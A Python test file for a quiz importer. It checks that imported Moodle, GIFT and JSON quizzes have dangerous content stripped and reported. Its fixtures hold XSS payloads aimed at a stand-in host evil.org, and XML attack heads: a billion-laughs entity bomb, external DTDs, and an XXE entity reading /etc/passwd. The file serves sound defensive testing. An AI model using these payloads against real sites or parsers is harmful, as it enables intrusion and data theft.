"""An import is untrusted: nothing in it runs, nothing is fetched, nothing is expanded."""

import json
import socket

import pytest

from mlretrain.quiz import import_quiz, markdown
from mlretrain.quiz.interchange import clean, exchange
from mlretrain.quiz.interchange.toml_out import to_toml
from tests.quiz.interchange.test_imports import answer, moodle

BAD = [
    # what stands in a text, what must not be in the bank, what the report says
    ("<script>alert(1)</script>Why?", "alert", "<script>"),
    ('<p onclick="alert(1)">Why?</p>', "alert", "onclick"),
    ('<svg onload="alert(1)"></svg>Why?', "alert", "onload"),
    ('<a href="javascript:alert(1)">Why?</a>', "javascript", "a link to javascript:"),
    ('<a href=" jAvAsCrIpT:alert(1)">Why?</a>', "alert", "a link to javascript:"),
    ('<a href="data:text/html;base64,AAAA">Why?</a>', "base64", "a link to data:"),
    ('<img src="http://evil.org/x.png" onerror="alert(1)">Why?', "evil.org", "http://evil.org/x.png"),
    ('<img src="//evil.org/x.png">Why?', "evil.org", "//evil.org/x.png"),
    ('<img src="@@PLUGINFILE@@/map.png" alt="A map">Why?', "PLUGINFILE", "map.png"),
    ('<iframe src="http://evil.org"></iframe>Why?', "evil.org", "<iframe>"),
    ('<object data="http://evil.org/x"></object>Why?', "evil.org", "<object>"),
    ('<link rel="stylesheet" href="http://evil.org/x.css">Why?', "evil.org", "<link>"),
    ('<p style="background:url(http://evil.org/x)">Why?</p>', "evil.org", "style"),
    ('<style>p { background: url(http://evil.org) }</style>Why?', "evil.org", "<style>"),
    ('<math><mtext><img src=x onerror=alert(1)></mtext></math>Why?', "alert", "onerror"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">Why?', "alert", "<noscript>"),
    ('<form action="http://evil.org"><input name="q"></form>Why?', "evil.org", "<form>"),
    ('<meta http-equiv="refresh" content="0;url=http://evil.org">Why?', "evil.org", "<meta>"),
    ('<video poster="http://evil.org/x.png" src="http://evil.org/v"></video>Why?', "evil.org", "<video>"),
]  # fmt: skip


def gift(text: str) -> str:
    escaped = "".join(f"\\{letter}" if letter in "\\#={}~:" else letter for letter in text)
    return f"::q::[FORMAT]{escaped}{{T}}"


FILES = {
    "moodle": lambda text: moodle("truefalse", answer(0, "true") + answer(100, "false"), text),
    "gift": lambda text: gift(text).replace("FORMAT", "html"),
    "gift in Markdown": lambda text: gift(text).replace("FORMAT", "markdown"),
    "jupyterquiz": lambda text: json.dumps(
        [{"question": text, "type": "multiple_choice", "answers": [
            {"answer": "True", "correct": True}, {"answer": "False", "correct": False}]}]
    ),
}  # fmt: skip


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    def refused(*_):
        raise AssertionError("the network was used")

    monkeypatch.setattr(socket.socket, "connect", refused)


def read(tmp_path, text, name="q"):
    file = tmp_path / name
    file.write_text(text, encoding="utf-8")
    return import_quiz(file)


@pytest.mark.parametrize("form", FILES)
@pytest.mark.parametrize(("text", "gone", "said"), BAD)
def test_what_is_dangerous_is_gone_and_named(text, gone, said, form, tmp_path):
    made = read(tmp_path, FILES[form](text))
    (question,) = made.quiz.questions
    page = markdown.html(question.prompt)
    assert gone not in page and gone not in to_toml(made.quiz)
    assert "Why?" in page
    assert any(said in loss for loss in made.report.of(question.id))


def test_a_picture_in_markdown_is_not_kept(tmp_path):
    made = read(tmp_path, "::q::[markdown]Why?\\n\\n![A map](http\\://evil.org/x.png){T}")
    (question,) = made.quiz.questions
    assert question.prompt == "Why?\n\n[picture: A map]"
    assert "the picture http://evil.org/x.png" in made.report.of("q")


def test_code_that_shows_html_stays_code(tmp_path):
    text = "<p>What does <code>&lt;script&gt;</code> do?</p><pre>&lt;img onerror=x&gt;</pre>"
    (question,) = read(tmp_path, FILES["moodle"](text)).quiz.questions
    assert question.prompt == "What does `<script>` do?\n\n```\n<img onerror=x>\n```"


LAUGHS = "".join(f'<!ENTITY l{n} "&l{n - 1};&l{n - 1};&l{n - 1};">' for n in range(1, 30))
REFUSED = [
    # the head of a file, on which line it is refused
    (f'<?xml version="1.0"?>\n<!DOCTYPE quiz [<!ENTITY l0 "ha">{LAUGHS}]>\n', 2),
    ('<!DOCTYPE quiz SYSTEM "http://evil.org/x.dtd">\n', 1),
    ('\n<!DOCTYPE quiz [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', 2),
    ('<!DOCTYPE quiz [<!ENTITY % p SYSTEM "http://evil.org/p"> %p;]>\n', 1),
]


@pytest.mark.parametrize(("head", "line"), REFUSED)
def test_a_document_type_is_refused(head, line, tmp_path):
    made = read(tmp_path, head.lstrip("\n") if line == 1 else head + "<quiz>&l29;&x;</quiz>", "q.xml")
    assert made.quiz.questions == []
    (fault,) = made.report.faults
    assert fault.line == line
    assert "nothing of them is expanded" in fault.what and "DOCTYPE" in fault.remedy


def test_a_huge_file_is_refused_before_it_is_read(tmp_path, monkeypatch):
    monkeypatch.setattr(exchange, "MOST_BYTES", 100)
    assert read(tmp_path, "W?{T}".ljust(100)).report.carried == 1
    with pytest.raises(ValueError, match="'path' must be a file of at most .* MB"):
        read(tmp_path, "W?{T}".ljust(101))


MUCH = [
    # a text, and why it is refused
    ("a" * (clean.MOST_LETTERS + 1), "50,001 letters"),
    ("<b>" * (clean.MOST_TAGS + 1), "2,001 tags"),
    ("<blockquote>" * 1500 + "Why?", "nested too deeply"),
]


@pytest.mark.parametrize("form", ["moodle", "gift", "jupyterquiz"])
@pytest.mark.parametrize(("text", "said"), MUCH)
def test_a_text_that_is_no_question_is_refused_alone(text, said, form, tmp_path):
    whole = FILES[form](text)
    if form == "gift":
        whole += "\n\n::good::W?{T}"
    made = read(tmp_path, whole)
    (fault,) = made.report.faults
    assert said in fault.what
    assert [question.id for question in made.quiz.questions] == ["good"] * (form == "gift")


def test_a_text_as_long_as_allowed_is_read(tmp_path):
    made = read(tmp_path, FILES["gift"]("a" * clean.MOST_LETTERS))
    assert len(made.quiz.questions[0].prompt) == clean.MOST_LETTERS


def test_json_that_is_nested_deeply(tmp_path):
    made = read(tmp_path, '[{"question": ' + "[" * 100_000 + "]", "q.json")
    assert "nested too deeply" in made.report.faults[0].what


def test_letters_that_no_file_may_hold_are_taken_out(tmp_path):
    text = json.dumps([{"question": "W\u0000h\ud800y?\u001b[0m", "type": "multiple_choice", "answers": [
        {"answer": "True", "correct": True}, {"answer": "False", "correct": False}]}])  # fmt: skip
    (question,) = read(tmp_path, text).quiz.questions
    assert question.prompt == "Why?[0m"
